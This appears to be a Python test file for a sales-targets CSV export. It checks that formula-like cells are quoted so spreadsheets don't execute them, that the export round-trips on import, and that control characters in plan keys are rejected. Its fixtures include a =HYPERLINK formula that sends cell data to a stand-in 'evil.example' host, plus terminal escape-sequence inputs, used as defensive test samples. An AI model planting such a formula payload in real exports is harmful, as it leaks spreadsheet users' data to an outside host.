"""`podium targets export`: no cell a spreadsheet would run as a formula (a rep's comment
``=HYPERLINK(...)``, a plan key ``=1+1``), and the export still imports back as the same
plans: the import takes the export's quote off again."""

from __future__ import annotations

import csv
import io

import pytest

from domain.kit.errors import DataError
from domain.kit.text import FORMULA_START
from domain.targets.files import export_targets, import_targets
from domain.targets.models import Target, TargetPlan
from tests.domain.builders import make_org, make_tenant, system_viewer

LINK = '=HYPERLINK("http://evil.example/steal?"&A1,"Open details")'
ORG = {"boss": None, "@ana": "boss", "'=ben": "boss"}
SHEET = (
    "plan,period,measure,currency,rep_id,value,breakdown_field,breakdown_value\n"
    "=1+1,2027-Q1,+bookings,EUR,boss,100,region,-EU\n"
    "=1+1,2027-Q1,+bookings,EUR,@ana,60,region,-EU\n"
    "=1+1,2027-Q1,+bookings,EUR,''=ben,40,region,-EU\n"  # as a spreadsheet shows '=ben
)


async def _plans(tenant_id: object) -> list[tuple[object, ...]]:
    plans = await TargetPlan.filter(tenant_id=tenant_id).order_by("version")
    return [
        (p.key, p.period, p.measure, p.currency, p.breakdown_field, p.breakdown_value)
        for p in plans
    ]


async def test_given_formula_cells_when_exported_then_quoted_and_the_export_imports_back(db):
    tenant = await make_tenant()
    await make_org(tenant=tenant, managers=ORG)
    viewer = system_viewer(tenant)
    await import_targets(viewer=viewer, lines=io.StringIO(SHEET).readlines())
    await Target.filter(tenant_id=tenant.id, user__external_id="@ana").update(comment=LINK)
    before = await _plans(tenant.id)

    exported = await export_targets(viewer=viewer)

    rows = list(csv.reader(io.StringIO(exported)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_START and cell], exported
    by_rep = {row[4]: row for row in rows[1:]}
    assert set(by_rep) == {"boss", "'@ana", "''=ben"}
    assert by_rep["'@ana"][:6] == ["'=1+1", "2027-Q1", "'+bookings", "EUR", "'@ana", "60"]
    assert by_rep["'@ana"][7] == "'-EU"
    assert by_rep["'@ana"][10] == "'" + LINK
    # the export imports back: the same draft plan, the same people and values
    again = await import_targets(viewer=viewer, lines=io.StringIO(exported).readlines())
    assert again.plans == (("=1+1", 1),)
    assert await _plans(tenant.id) == before
    values = await Target.filter(tenant_id=tenant.id).values_list("user__external_id", "value")
    assert sorted(values) == [("'=ben", 40), ("@ana", 60), ("boss", 100)]


async def test_given_a_plan_key_or_breakdown_with_a_control_character_then_refused_naming_it(db):
    # the plan key is one line of `podium targets list`: an escape sequence or a line feed
    # (inside a quoted cell) reached the admin's terminal as it was
    tenant = await make_tenant()
    await make_org(tenant=tenant, managers=ORG)
    header = "plan,period,measure,currency,rep_id,value,breakdown_field,breakdown_value\n"
    for row, column in (
        ('"q\nfake",2027-Q1,bookings,EUR,boss,100,,\n', "plan"),
        ("q\x1b[2J,2027-Q1,bookings,EUR,boss,100,,\n", "plan"),
        ("q,2027-Q1,book\x7fings,EUR,boss,100,,\n", "measure"),
        ("q,2027-Q1,bookings,EUR,boss,100,type,heat\x1bpump\n", "breakdown_value"),
    ):
        with pytest.raises(DataError) as caught:
            await import_targets(
                viewer=system_viewer(tenant), lines=io.StringIO(header + row).readlines()
            )
        assert caught.value.column == column, row
    assert await TargetPlan.filter(tenant_id=tenant.id).count() == 0
